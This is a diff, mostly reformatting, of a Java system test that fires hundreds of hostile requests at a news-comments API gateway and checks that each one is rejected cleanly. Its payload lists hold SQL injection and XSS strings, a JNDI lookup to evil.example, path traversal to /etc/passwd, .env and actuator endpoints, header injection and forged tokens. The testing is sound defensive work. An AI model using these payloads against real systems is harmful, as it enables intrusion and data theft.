@@ -1,14 +1,14 @@
 package news.comments.systemtest;
 
-import news.comments.systemtest.SharedStack.SystemUnderTest;
-import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.extension.ExtendWith;
-import tools.jackson.core.json.JsonWriteFeature;
-import tools.jackson.databind.JsonNode;
-import tools.jackson.databind.json.JsonMapper;
+import static news.comments.systemtest.Scenario.EVENTUALLY;
+import static news.comments.systemtest.Scenario.awaitAllDecided;
+import static news.comments.systemtest.Scenario.awaitDecision;
+import static news.comments.systemtest.Scenario.commentsPath;
+import static news.comments.systemtest.Scenario.createArticle;
+import static news.comments.systemtest.Scenario.postCommentOnceArticleIsKnown;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
 
-import javax.crypto.Mac;
-import javax.crypto.spec.SecretKeySpec;
 import java.net.URI;
 import java.net.URLEncoder;
 import java.net.http.HttpRequest;
@@ -22,15 +22,14 @@ import java.util.List;
 import java.util.Map;
 import java.util.TreeMap;
 import java.util.UUID;
-
-import static news.comments.systemtest.Scenario.EVENTUALLY;
-import static news.comments.systemtest.Scenario.awaitAllDecided;
-import static news.comments.systemtest.Scenario.awaitDecision;
-import static news.comments.systemtest.Scenario.commentsPath;
-import static news.comments.systemtest.Scenario.createArticle;
-import static news.comments.systemtest.Scenario.postCommentOnceArticleIsKnown;
-import static org.assertj.core.api.Assertions.assertThat;
-import static org.awaitility.Awaitility.await;
+import javax.crypto.Mac;
+import javax.crypto.spec.SecretKeySpec;
+import news.comments.systemtest.SharedStack.SystemUnderTest;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import tools.jackson.core.json.JsonWriteFeature;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
 
 /**
  * Hundreds of generated hostile requests through the gateway against every endpoint: malformed,
@@ -45,24 +44,58 @@ class HostileInputSystemTest {
 
     // Non-ASCII is written as JSON unicode escapes, so an unpaired surrogate reaches the server as such
     // (sent raw, the UTF-8 encoder would replace it with '?' and the test would prove nothing).
-    private static final JsonMapper JSON = JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
+    private static final JsonMapper JSON =
+            JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
 
     private static final List<String> INJECTIONS = List.of(
-            "' OR '1'='1", "'; DROP TABLE comments; --", "1; SELECT pg_sleep(10)--", "\" OR \"\"=\"",
-            "admin'--", "1 UNION SELECT username, password FROM users",
-            "\",\"status\":\"APPROVED", "{\"$ne\":null}", "}{", "\\u0000",
-            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
-            "\"><svg onload=alert(1)>", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
-            "%00", "${jndi:ldap://evil.example/a}", "{{7*7}}", "a\r\nX-Injected: yes");
+            "' OR '1'='1",
+            "'; DROP TABLE comments; --",
+            "1; SELECT pg_sleep(10)--",
+            "\" OR \"\"=\"",
+            "admin'--",
+            "1 UNION SELECT username, password FROM users",
+            "\",\"status\":\"APPROVED",
+            "{\"$ne\":null}",
+            "}{",
+            "\\u0000",
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(document.cookie)>",
+            "javascript:alert(1)",
+            "\"><svg onload=alert(1)>",
+            "../../../../etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "%00",
+            "${jndi:ldap://evil.example/a}",
+            "{{7*7}}",
+            "a\r\nX-Injected: yes");
 
     private static final List<String> CONTROL_TEXT = List.of(
-            "bell\u0007", "nul\u0000", "escape\u001b[2J", "del\u007f", "c1\u0085next", "csi\u009b31m",
-            "half\ud800", "low\udc00half", "back\bspace", "form\ffeed");
+            "bell\u0007",
+            "nul\u0000",
+            "escape\u001b[2J",
+            "del\u007f",
+            "c1\u0085next",
+            "csi\u009b31m",
+            "half\ud800",
+            "low\udc00half",
+            "back\bspace",
+            "form\ffeed");
 
     private static final List<String> MALFORMED_BODIES = List.of(
-            "{", "}", "{\"author\":", "{\"author\":\"a\",\"text\":\"b\"", "not json at all", "<xml/>",
-            "{'author':'a'}", "{\"author\":\"a\",,}", "\u0000", "[" .repeat(5000) + "]".repeat(5000),
-            "{\"a\":" .repeat(2000) + "1" + "}".repeat(2000), "\"just a string\"", "12345", "true");
+            "{",
+            "}",
+            "{\"author\":",
+            "{\"author\":\"a\",\"text\":\"b\"",
+            "not json at all",
+            "<xml/>",
+            "{'author':'a'}",
+            "{\"author\":\"a\",,}",
+            "\u0000",
+            "[".repeat(5000) + "]".repeat(5000),
+            "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
+            "\"just a string\"",
+            "12345",
+            "true");
 
     record Hostile(String label, HttpRequest.Builder request) {
 
@@ -77,7 +110,8 @@ class HostileInputSystemTest {
         Api api = system.api();
         String token = system.moderatorToken();
         String articleId = createArticle(api, token, "Harbour wall repairs begin");
-        String commentId = postCommentOnceArticleIsKnown(api, articleId, "Resident", "Good news for the harbour.").text("id");
+        String commentId = postCommentOnceArticleIsKnown(api, articleId, "Resident", "Good news for the harbour.")
+                .text("id");
         awaitDecision(api, commentId);
         Map<String, Object> before = snapshot(api, token, articleId);
 
@@ -101,14 +135,19 @@ class HostileInputSystemTest {
             statuses.merge(reply.status(), 1, Integer::sum);
             String problem = problemViolation(reply);
             if (problem != null) {
-                failures.add(request.label() + " -> " + problem + ": " + abbreviate(reply.response().body()));
+                failures.add(request.label() + " -> " + problem + ": "
+                        + abbreviate(reply.response().body()));
             }
         }
         System.out.printf("Hostile input: %d requests, HTTP statuses %s%n", hostile.size(), statuses);
 
-        assertThat(failures).as("hostile requests without a 4xx problem+json answer").isEmpty();
+        assertThat(failures)
+                .as("hostile requests without a 4xx problem+json answer")
+                .isEmpty();
         assertThat(statuses.keySet()).allMatch(status -> status >= 400 && status < 500);
-        await("the data to settle").during(Duration.ofSeconds(2)).atMost(EVENTUALLY)
+        await("the data to settle")
+                .during(Duration.ofSeconds(2))
+                .atMost(EVENTUALLY)
                 .untilAsserted(() -> assertThat(snapshot(api, token, articleId)).isEqualTo(before));
     }
 
@@ -118,23 +157,29 @@ class HostileInputSystemTest {
         String token = system.moderatorToken();
         String articleId = createArticle(api, token, "Festival programme announced");
         String author = "<img src=x onerror=alert(1)>";
-        String text = "<script>alert(\"pwned\")</script> & ' OR '1'='1 -- </textarea><svg onload=alert(1)>\n\u00e9\uD83D\uDE00";
+        String text =
+                "<script>alert(\"pwned\")</script> & ' OR '1'='1 -- </textarea><svg onload=alert(1)>\n\u00e9\uD83D\uDE00";
 
         Api.Reply posted = postCommentOnceArticleIsKnown(api, articleId, author, text);
         assertThat(posted.status()).as("%s", posted).isEqualTo(202);
         String id = posted.text("id");
         Api.Reply decided = awaitDecision(api, id);
         if (!"APPROVED".equals(decided.text("status"))) {
-            Api.Reply approve = api.post("/api/moderation/comments/" + id + "/decisions",
-                    Map.of("decision", "APPROVE", "note", "hostile-input test"), token);
+            Api.Reply approve = api.post(
+                    "/api/moderation/comments/" + id + "/decisions",
+                    Map.of("decision", "APPROVE", "note", "hostile-input test"),
+                    token);
             assertThat(approve.status()).as("%s", approve).isEqualTo(202);
         }
 
         Api.Reply[] list = new Api.Reply[1];
-        await("the XSS comment to be listed").atMost(EVENTUALLY).pollInterval(Duration.ofMillis(250)).until(() -> {
-            list[0] = api.get(commentsPath(articleId));
-            return list[0].body().path("comments").size() == 1;
-        });
+        await("the XSS comment to be listed")
+                .atMost(EVENTUALLY)
+                .pollInterval(Duration.ofMillis(250))
+                .until(() -> {
+                    list[0] = api.get(commentsPath(articleId));
+                    return list[0].body().path("comments").size() == 1;
+                });
         JsonNode comment = list[0].body().path("comments").get(0);
         assertThat(comment.path("text").asString()).isEqualTo(text);
         assertThat(comment.path("author").asString()).isEqualTo(author);
@@ -143,8 +188,9 @@ class HostileInputSystemTest {
         assertThat(list[0].response().body()).contains(JsonMapper.shared().writeValueAsString(text));
         assertThat(list[0].contentType()).startsWith("application/json");
         assertThat(list[0].header("X-Content-Type-Options")).hasValue("nosniff");
-        assertThat(list[0].header("Content-Security-Policy")).hasValueSatisfying(csp ->
-                assertThat(csp).contains("frame-ancestors 'none'").doesNotContain("unsafe-inline"));
+        assertThat(list[0].header("Content-Security-Policy"))
+                .hasValueSatisfying(csp ->
+                        assertThat(csp).contains("frame-ancestors 'none'").doesNotContain("unsafe-inline"));
         Api.Reply single = api.get("/api/comments/" + id);
         assertThat(single.text("text")).isEqualTo(text);
     }
@@ -172,11 +218,19 @@ class HostileInputSystemTest {
                 new String[] {"Reader six", "i\u0336d\u0336i\u0336o\u0336t\u0336", "REJECTED", "BANNED_WORD"},
                 new String[] {"\u202Ellort", "hello", "REJECTED", "BANNED_AUTHOR"},
                 new String[] {"\u0422roll", "hello there", "REJECTED", "BANNED_AUTHOR"});
-        await("the new rule set to apply").atMost(EVENTUALLY).pollInterval(Duration.ofMillis(500)).until(() -> {
-            String probe = postCommentOnceArticleIsKnown(api, articleId, "Rule check " + UUID.randomUUID(), "idiot")
-                    .text("id");
-            return awaitDecision(api, probe).body().path("reasons").toString().contains("BANNED_WORD");
-        });
+        await("the new rule set to apply")
+                .atMost(EVENTUALLY)
+                .pollInterval(Duration.ofMillis(500))
+                .until(() -> {
+                    String probe = postCommentOnceArticleIsKnown(
+                                    api, articleId, "Rule check " + UUID.randomUUID(), "idiot")
+                            .text("id");
+                    return awaitDecision(api, probe)
+                            .body()
+                            .path("reasons")
+                            .toString()
+                            .contains("BANNED_WORD");
+                });
         Map<String, String[]> posted = new LinkedHashMap<>();
         for (String[] probe : probes) {
             Api.Reply reply = api.post(commentsPath(articleId), Map.of("author", probe[0], "text", probe[1]), null);
@@ -186,9 +240,13 @@ class HostileInputSystemTest {
         Map<String, Api.Reply> decided = awaitAllDecided(api, posted.keySet(), EVENTUALLY);
         posted.forEach((id, probe) -> {
             JsonNode comment = decided.get(id).body();
-            assertThat(comment.path("status").asString()).as("%s by %s", probe[1], probe[0]).isEqualTo(probe[2]);
+            assertThat(comment.path("status").asString())
+                    .as("%s by %s", probe[1], probe[0])
+                    .isEqualTo(probe[2]);
             if (probe[3] != null) {
-                assertThat(comment.path("reasons").toString()).as("%s by %s", probe[1], probe[0]).contains(probe[3]);
+                assertThat(comment.path("reasons").toString())
+                        .as("%s by %s", probe[1], probe[0])
+                        .contains(probe[3]);
             }
         });
     }
@@ -201,19 +259,31 @@ class HostileInputSystemTest {
         String commentId = postCommentOnceArticleIsKnown(api, articleId, "Writer", "An opinion some will dislike.")
                 .text("id");
         assertThat(awaitDecision(api, commentId).text("status")).isEqualTo("APPROVED");
-        int threshold = api.get("/api/moderation/rules", token).body().path("reportThreshold").asInt();
+        int threshold = api.get("/api/moderation/rules", token)
+                .body()
+                .path("reportThreshold")
+                .asInt();
         assertThat(threshold).as("reports are switched on").isPositive();
 
         List<String> reportIds = new ArrayList<>();
         for (int i = 0; i < threshold + 2; i++) {
-            Api.Reply reply = api.post("/api/comments/" + commentId + "/reports", Map.of("reason", "spam " + i), null,
+            Api.Reply reply = api.post(
+                    "/api/comments/" + commentId + "/reports",
+                    Map.of("reason", "spam " + i),
+                    null,
                     Map.of("X-Comments-Client", "10.0.0." + i));
             assertThat(reply.status()).as("%s", reply).isEqualTo(202);
             reportIds.add(reply.text("id"));
         }
-        assertThat(reportIds).as("one reader's reports, whatever X-Comments-Client says").containsOnly(reportIds.get(0));
-        await("the comment to stay published").during(Duration.ofSeconds(3)).atMost(Duration.ofSeconds(10))
-                .untilAsserted(() -> assertThat(api.get("/api/comments/" + commentId).text("status")).isEqualTo("APPROVED"));
+        assertThat(reportIds)
+                .as("one reader's reports, whatever X-Comments-Client says")
+                .containsOnly(reportIds.get(0));
+        await("the comment to stay published")
+                .during(Duration.ofSeconds(3))
+                .atMost(Duration.ofSeconds(10))
+                .untilAsserted(
+                        () -> assertThat(api.get("/api/comments/" + commentId).text("status"))
+                                .isEqualTo("APPROVED"));
     }
 
     @Test
@@ -229,29 +299,34 @@ class HostileInputSystemTest {
         try {
             for (int i = 0; i < 5; i++) {
                 java.net.Socket socket = new java.net.Socket(gateway.getHost(), gateway.getPort());
-                socket.getOutputStream().write(("GET " + streamPath + " HTTP/1.1\r\nHost: " + gateway.getAuthority()
-                        + "\r\nAccept: text/event-stream\r\nX-Forwarded-For: " + reader + "\r\n\r\n")
-                        .getBytes(StandardCharsets.US_ASCII));
+                socket.getOutputStream()
+                        .write(("GET " + streamPath + " HTTP/1.1\r\nHost: " + gateway.getAuthority()
+                                        + "\r\nAccept: text/event-stream\r\nX-Forwarded-For: " + reader + "\r\n\r\n")
+                                .getBytes(StandardCharsets.US_ASCII));
                 socket.getOutputStream().flush();
                 streams.add(socket);
             }
             await("five streams open").atMost(EVENTUALLY).until(() -> openStreams(system) == before + 5);
 
             Api.Reply sixth = api.exchange(HttpRequest.newBuilder(gateway.resolve(streamPath))
-                    .header("Accept", "text/event-stream").header("X-Forwarded-For", reader).GET());
+                    .header("Accept", "text/event-stream")
+                    .header("X-Forwarded-For", reader)
+                    .GET());
             assertThat(sixth.status()).as("%s", sixth).isEqualTo(429);
             assertThat(problemViolation(sixth)).isNull();
             assertThat(sixth.header("Retry-After")).isPresent();
 
             streams.remove(0).close();
-            await("the closed stream's place to be freed").atMost(EVENTUALLY)
+            await("the closed stream's place to be freed")
+                    .atMost(EVENTUALLY)
                     .until(() -> openStreams(system) == before + 4);
             java.net.Socket again = new java.net.Socket(gateway.getHost(), gateway.getPort());
             streams.add(again);
             again.setSoTimeout(30_000);
-            again.getOutputStream().write(("GET " + streamPath + " HTTP/1.1\r\nHost: " + gateway.getAuthority()
-                    + "\r\nAccept: text/event-stream\r\nX-Forwarded-For: " + reader + "\r\n\r\n")
-                    .getBytes(StandardCharsets.US_ASCII));
+            again.getOutputStream()
+                    .write(("GET " + streamPath + " HTTP/1.1\r\nHost: " + gateway.getAuthority()
+                                    + "\r\nAccept: text/event-stream\r\nX-Forwarded-For: " + reader + "\r\n\r\n")
+                            .getBytes(StandardCharsets.US_ASCII));
             await("a new stream in the freed place").atMost(EVENTUALLY).until(() -> openStreams(system) == before + 5);
         } finally {
             for (java.net.Socket socket : streams) {
@@ -263,12 +338,16 @@ class HostileInputSystemTest {
 
     /** The gateway's gauge of open comment streams, read from its management port. */
     private static int openStreams(SystemUnderTest system) throws Exception {
-        URI metrics = URI.create("http://127.0.0.1:" + system.stack().ports().gatewayManagement() + "/actuator/prometheus");
+        URI metrics =
+                URI.create("http://127.0.0.1:" + system.stack().ports().gatewayManagement() + "/actuator/prometheus");
         String body = java.net.http.HttpClient.newHttpClient()
-                .send(HttpRequest.newBuilder(metrics).build(), java.net.http.HttpResponse.BodyHandlers.ofString()).body();
-        return body.lines().filter(line -> line.startsWith("comments_gateway_streams_open"))
+                .send(HttpRequest.newBuilder(metrics).build(), java.net.http.HttpResponse.BodyHandlers.ofString())
+                .body();
+        return body.lines()
+                .filter(line -> line.startsWith("comments_gateway_streams_open"))
                 .mapToInt(line -> (int) Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1)))
-                .findFirst().orElseThrow(() -> new AssertionError("no comments_gateway_streams_open gauge"));
+                .findFirst()
+                .orElseThrow(() -> new AssertionError("no comments_gateway_streams_open gauge"));
     }
 
     private static Map<String, Object> editable(JsonNode view) {
@@ -288,8 +367,9 @@ class HostileInputSystemTest {
 
     // --- the generated requests ---------------------------------------------------------------------
 
-    private static List<Hostile> generate(URI gateway, String articleId, String commentId, String jwksModulus,
-            ValidlySignedTokens signed) throws Exception {
+    private static List<Hostile> generate(
+            URI gateway, String articleId, String commentId, String jwksModulus, ValidlySignedTokens signed)
+            throws Exception {
         List<Hostile> all = new ArrayList<>();
         Map<String, String> writes = new LinkedHashMap<>();
         writes.put("POST " + commentsPath(articleId), null);
@@ -305,39 +385,99 @@ class HostileInputSystemTest {
         }
         // 2. Strict bodies: control characters, wrong types, injected fields, bad UUIDs.
         for (String text : CONTROL_TEXT) {
-            all.add(json(gateway, "POST " + commentsPath(articleId), Map.of("author", "A", "text", text), null, "control text"));
-            all.add(json(gateway, "POST " + commentsPath(articleId), Map.of("author", text, "text", "fine"), null, "control author"));
-            all.add(json(gateway, "POST /api/comments/" + commentId + "/reports", Map.of("reason", text), null, "control reason"));
+            all.add(json(
+                    gateway,
+                    "POST " + commentsPath(articleId),
+                    Map.of("author", "A", "text", text),
+                    null,
+                    "control text"));
+            all.add(json(
+                    gateway,
+                    "POST " + commentsPath(articleId),
+                    Map.of("author", text, "text", "fine"),
+                    null,
+                    "control author"));
+            all.add(json(
+                    gateway,
+                    "POST /api/comments/" + commentId + "/reports",
+                    Map.of("reason", text),
+                    null,
+                    "control reason"));
         }
         for (String injection : INJECTIONS) {
             String post = "POST " + commentsPath(articleId);
-            all.add(json(gateway, post, Map.of("author", injection, "text", injection, "parentId", injection), null,
+            all.add(json(
+                    gateway,
+                    post,
+                    Map.of("author", injection, "text", injection, "parentId", injection),
+                    null,
                     "injection as parentId"));
-            all.add(json(gateway, post, Map.of("author", "A", "text", injection, "status", "APPROVED"), null,
+            all.add(json(
+                    gateway,
+                    post,
+                    Map.of("author", "A", "text", injection, "status", "APPROVED"),
+                    null,
                     "injected status field"));
-            all.add(json(gateway, post, Map.of("author", injection, "text", "t", "id", injection), null, "injected id field"));
-            all.add(json(gateway, post, Map.of("author", List.of(injection), "text", injection), null, "array as author"));
-            all.add(json(gateway, post, Map.of("author", Map.of("$gt", ""), "text", injection), null, "object as author"));
-            all.add(json(gateway, "POST /api/comments/" + commentId + "/reports", Map.of("reason", injection, "weight", 100),
-                    null, "injected report field"));
-            all.add(json(gateway, "POST /api/auth/token", Map.of("username", injection, "password", injection), null,
+            all.add(json(
+                    gateway,
+                    post,
+                    Map.of("author", injection, "text", "t", "id", injection),
+                    null,
+                    "injected id field"));
+            all.add(json(
+                    gateway, post, Map.of("author", List.of(injection), "text", injection), null, "array as author"));
+            all.add(json(
+                    gateway, post, Map.of("author", Map.of("$gt", ""), "text", injection), null, "object as author"));
+            all.add(json(
+                    gateway,
+                    "POST /api/comments/" + commentId + "/reports",
+                    Map.of("reason", injection, "weight", 100),
+                    null,
+                    "injected report field"));
+            all.add(json(
+                    gateway,
+                    "POST /api/auth/token",
+                    Map.of("username", injection, "password", injection),
+                    null,
                     "injection sign-in"));
             // ... in path variables and query parameters
             String encoded = encode(injection);
             all.add(raw(gateway, "GET /api/articles/" + encoded, null, null, null, "injection article id"));
-            all.add(raw(gateway, "GET /api/articles/" + encoded + "/comments", null, null, null, "injection article id"));
+            all.add(raw(
+                    gateway, "GET /api/articles/" + encoded + "/comments", null, null, null, "injection article id"));
             all.add(raw(gateway, "GET /api/comments/" + encoded, null, null, null, "injection comment id"));
-            all.add(raw(gateway, "POST /api/comments/" + encoded + "/reports", "{\"reason\":\"spam\"}", "application/json",
-                    null, "injection comment id"));
-            all.add(raw(gateway, "POST /api/articles/" + encoded + "/comments", "{\"author\":\"a\",\"text\":\"b\"}",
-                    "application/json", null, "injection article id"));
+            all.add(raw(
+                    gateway,
+                    "POST /api/comments/" + encoded + "/reports",
+                    "{\"reason\":\"spam\"}",
+                    "application/json",
+                    null,
+                    "injection comment id"));
+            all.add(raw(
+                    gateway,
+                    "POST /api/articles/" + encoded + "/comments",
+                    "{\"author\":\"a\",\"text\":\"b\"}",
+                    "application/json",
+                    null,
+                    "injection article id"));
             all.add(raw(gateway, "GET /api/articles?page=" + encoded + "&size=10", null, null, null, "injection page"));
-            all.add(raw(gateway, "GET /api/articles/" + articleId + "/comments?size=" + encoded, null, null, null,
+            all.add(raw(
+                    gateway,
+                    "GET /api/articles/" + articleId + "/comments?size=" + encoded,
+                    null,
+                    null,
+                    null,
                     "injection size"));
             // ... and in headers
             if (!injection.contains("\r") && !injection.contains("\n")) {
-                all.add(raw(gateway, "POST " + commentsPath(articleId), "{\"author\":\"a\"}", "application/json", null,
-                        "injection idempotency key").addHeader("Idempotency-Key", injection));
+                all.add(raw(
+                                gateway,
+                                "POST " + commentsPath(articleId),
+                                "{\"author\":\"a\"}",
+                                "application/json",
+                                null,
+                                "injection idempotency key")
+                        .addHeader("Idempotency-Key", injection));
                 all.add(raw(gateway, "POST /api/articles", "{}", "application/json", null, "injection bearer")
                         .addHeader("Authorization", "Bearer " + injection));
                 all.add(raw(gateway, "GET /api/moderation/queue", null, null, null, "injection basic auth")
@@ -352,18 +492,40 @@ class HostileInputSystemTest {
             all.add(raw(gateway, write, enormous, "application/json", null, "oversized " + write));
         }
         all.add(raw(gateway, "POST /api/articles", enormous, "application/json", null, "oversized article, no token"));
-        all.add(json(gateway, "POST " + commentsPath(articleId), Map.of("author", "a", "text", "x".repeat(5001)), null,
+        all.add(json(
+                gateway,
+                "POST " + commentsPath(articleId),
+                Map.of("author", "a", "text", "x".repeat(5001)),
+                null,
                 "comment text over its limit"));
-        all.add(json(gateway, "POST " + commentsPath(articleId), Map.of("author", "a".repeat(81), "text", "x"), null,
+        all.add(json(
+                gateway,
+                "POST " + commentsPath(articleId),
+                Map.of("author", "a".repeat(81), "text", "x"),
+                null,
                 "author over its limit"));
         // 4. Path traversal and odd paths.
-        for (String path : List.of("/api/articles/../../etc/passwd", "/api/articles/..%2F..%2Fetc%2Fpasswd",
-                "/api/articles/%2e%2e/%2e%2e/etc/passwd", "/api/../actuator/env", "/api/articles/..;/..;/actuator",
-                "/api/articles/%252e%252e/x", "/%2e%2e/%2e%2e/etc/passwd", "/api/articles/x%00.json",
-                "/api/articles/..%5c..%5cwindows", "/api//articles", "/actuator/env", "/actuator/heapdump",
-                "/actuator/shutdown", "/api/admin", "/api/articles/" + articleId + "/comments/../../../../etc/passwd",
-                "/api/comments/" + commentId + "/history/../../../articles", "/.env", "/WEB-INF/web.xml",
-                "/api/articles/" + articleId + "/%2e%2e/close", "/gateway-fallback/comment-service")) {
+        for (String path : List.of(
+                "/api/articles/../../etc/passwd",
+                "/api/articles/..%2F..%2Fetc%2Fpasswd",
+                "/api/articles/%2e%2e/%2e%2e/etc/passwd",
+                "/api/../actuator/env",
+                "/api/articles/..;/..;/actuator",
+                "/api/articles/%252e%252e/x",
+                "/%2e%2e/%2e%2e/etc/passwd",
+                "/api/articles/x%00.json",
+                "/api/articles/..%5c..%5cwindows",
+                "/api//articles",
+                "/actuator/env",
+                "/actuator/heapdump",
+                "/actuator/shutdown",
+                "/api/admin",
+                "/api/articles/" + articleId + "/comments/../../../../etc/passwd",
+                "/api/comments/" + commentId + "/history/../../../articles",
+                "/.env",
+                "/WEB-INF/web.xml",
+                "/api/articles/" + articleId + "/%2e%2e/close",
+                "/gateway-fallback/comment-service")) {
             all.add(raw(gateway, "GET " + path, null, null, null, "traversal"));
             all.add(raw(gateway, "POST " + path, "{}", "application/json", null, "traversal"));
         }
@@ -376,18 +538,29 @@ class HostileInputSystemTest {
                 new String[] {"GET", "/api/moderation/queue", null},
                 new String[] {"GET", "/api/moderation/rules", null},
                 new String[] {"PUT", "/api/moderation/rules", "{\"bannedWords\":[]}"},
-                new String[] {"POST", "/api/moderation/comments/" + commentId + "/decisions", "{\"decision\":\"REMOVE\"}"},
+                new String[] {
+                    "POST", "/api/moderation/comments/" + commentId + "/decisions", "{\"decision\":\"REMOVE\"}"
+                },
                 new String[] {"GET", "/api/comments/" + commentId + "/history", null});
         for (String[] call : moderatorCalls) {
             all.add(raw(gateway, call[0] + " " + call[1], call[2], "application/json", null, "no token " + call[1]));
             for (String forged : tokens) {
-                all.add(raw(gateway, call[0] + " " + call[1], call[2], "application/json", forged,
+                all.add(raw(
+                        gateway,
+                        call[0] + " " + call[1],
+                        call[2],
+                        "application/json",
+                        forged,
                         "forged token " + call[1]));
             }
         }
         // 6. Wrong methods.
-        for (String path : List.of("/api/articles", "/api/articles/" + articleId, commentsPath(articleId),
-                "/api/comments/" + commentId, "/api/comments/" + commentId + "/reports")) {
+        for (String path : List.of(
+                "/api/articles",
+                "/api/articles/" + articleId,
+                commentsPath(articleId),
+                "/api/comments/" + commentId,
+                "/api/comments/" + commentId + "/reports")) {
             for (String method : List.of("PUT", "DELETE", "PATCH")) {
                 all.add(raw(gateway, method + " " + path, "{}", "application/json", null, "wrong method"));
             }
@@ -396,28 +569,50 @@ class HostileInputSystemTest {
         all.add(raw(gateway, "DELETE /api/auth/token", null, null, null, "wrong method"));
         all.add(raw(gateway, "GET /api/comments/" + commentId + "/reports", null, null, null, "wrong method"));
         // 7. Wrong content types.
-        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
-                "multipart/form-data; boundary=x", "text/html", "application/javascript", "image/png")) {
-            all.add(raw(gateway, "POST " + commentsPath(articleId), "author=a&text=b", type, null, "content type " + type));
-            all.add(raw(gateway, "POST /api/comments/" + commentId + "/reports", "reason=spam", type, null,
+        for (String type : List.of(
+                "text/plain",
+                "application/xml",
+                "application/x-www-form-urlencoded",
+                "multipart/form-data; boundary=x",
+                "text/html",
+                "application/javascript",
+                "image/png")) {
+            all.add(raw(
+                    gateway, "POST " + commentsPath(articleId), "author=a&text=b", type, null, "content type " + type));
+            all.add(raw(
+                    gateway,
+                    "POST /api/comments/" + commentId + "/reports",
+                    "reason=spam",
+                    type,
+                    null,
                     "content type " + type));
             all.add(raw(gateway, "POST /api/auth/token", "username=a&password=b", type, null, "content type " + type));
         }
         // 8. Bad UUIDs and unknown ids.
-        for (String id : List.of("not-a-uuid", "123", "00000000-0000-0000-0000-00000000000g", articleId + "x",
-                "{" + articleId + "}")) {
+        for (String id : List.of(
+                "not-a-uuid", "123", "00000000-0000-0000-0000-00000000000g", articleId + "x", "{" + articleId + "}")) {
             all.add(raw(gateway, "GET /api/articles/" + encode(id), null, null, null, "bad uuid"));
             all.add(raw(gateway, "GET /api/comments/" + encode(id), null, null, null, "bad uuid"));
         }
         // 9. Oversized request heads: long Idempotency-Keys, one huge header, 2,000 headers, a huge address.
         for (int length : List.of(201, 1_000, 8_000, 20_000)) {
-            all.add(json(gateway, "POST " + commentsPath(articleId), Map.of("author", "a", "text", "b"), null,
-                    "idempotency key of " + length).addHeader("Idempotency-Key", "k".repeat(length)));
+            all.add(json(
+                            gateway,
+                            "POST " + commentsPath(articleId),
+                            Map.of("author", "a", "text", "b"),
+                            null,
+                            "idempotency key of " + length)
+                    .addHeader("Idempotency-Key", "k".repeat(length)));
         }
         all.add(raw(gateway, "GET " + commentsPath(articleId), null, null, null, "20 KB header")
                 .addHeader("X-Padding", "p".repeat(20_000)));
-        Hostile manyHeaders = raw(gateway, "POST " + commentsPath(articleId), "{\"author\":\"a\",\"text\":\"b\"}",
-                "application/json", null, "2,000 headers");
+        Hostile manyHeaders = raw(
+                gateway,
+                "POST " + commentsPath(articleId),
+                "{\"author\":\"a\",\"text\":\"b\"}",
+                "application/json",
+                null,
+                "2,000 headers");
         for (int i = 0; i < 2_000; i++) {
             manyHeaders.addHeader("X-Header-" + i, "v");
         }
@@ -426,8 +621,11 @@ class HostileInputSystemTest {
         all.add(raw(gateway, "GET /api/articles?page=0&size=" + "9".repeat(10_000), null, null, null, "10 KB query"));
         // 10. Bodies that are not well-formed UTF-8 (overlong '/', overlong NUL, stray continuation byte,
         // encoded surrogate, cut-off sequence) and bodies with a key given twice, on every write.
-        List<byte[]> illFormed = List.of(new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xC0, (byte) 0x80},
-                new byte[] {(byte) 0x80}, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
+        List<byte[]> illFormed = List.of(
+                new byte[] {(byte) 0xC0, (byte) 0xAF},
+                new byte[] {(byte) 0xC0, (byte) 0x80},
+                new byte[] {(byte) 0x80},
+                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                 new byte[] {(byte) 0xE2, (byte) 0x82});
         Map<String, String[]> fields = new LinkedHashMap<>();
         fields.put("POST " + commentsPath(articleId), new String[] {"{\"author\":\"a\",\"text\":\"", "\"}"});
@@ -435,30 +633,61 @@ class HostileInputSystemTest {
         fields.put("POST /api/auth/token", new String[] {"{\"username\":\"moderator\",\"password\":\"", "\"}"});
         for (var write : fields.entrySet()) {
             for (byte[] bad : illFormed) {
-                all.add(bytes(gateway, write.getKey(), concat(write.getValue()[0], bad, "..etc" + write.getValue()[1]),
+                all.add(bytes(
+                        gateway,
+                        write.getKey(),
+                        concat(write.getValue()[0], bad, "..etc" + write.getValue()[1]),
                         "ill-formed UTF-8 " + write.getKey()));
             }
         }
-        all.add(raw(gateway, "POST " + commentsPath(articleId), "{\"author\":\"a\",\"text\":\"b\",\"text\":\"c\"}",
-                "application/json", null, "duplicate key"));
-        all.add(raw(gateway, "POST " + commentsPath(articleId),
+        all.add(raw(
+                gateway,
+                "POST " + commentsPath(articleId),
+                "{\"author\":\"a\",\"text\":\"b\",\"text\":\"c\"}",
+                "application/json",
+                null,
+                "duplicate key"));
+        all.add(raw(
+                gateway,
+                "POST " + commentsPath(articleId),
                 "{\"author\":\"a\",\"text\":\"b\",\"parentId\":null,\"parentId\":\"" + commentId + "\"}",
-                "application/json", null, "duplicate key"));
-        all.add(raw(gateway, "POST /api/comments/" + commentId + "/reports", "{\"reason\":\"a\",\"reason\":\"b\"}",
-                "application/json", null, "duplicate key"));
-        all.add(raw(gateway, "POST /api/auth/token",
-                "{\"username\":\"moderator\",\"password\":\"x\",\"password\":\"y\"}", "application/json", null,
+                "application/json",
+                null,
+                "duplicate key"));
+        all.add(raw(
+                gateway,
+                "POST /api/comments/" + commentId + "/reports",
+                "{\"reason\":\"a\",\"reason\":\"b\"}",
+                "application/json",
+                null,
+                "duplicate key"));
+        all.add(raw(
+                gateway,
+                "POST /api/auth/token",
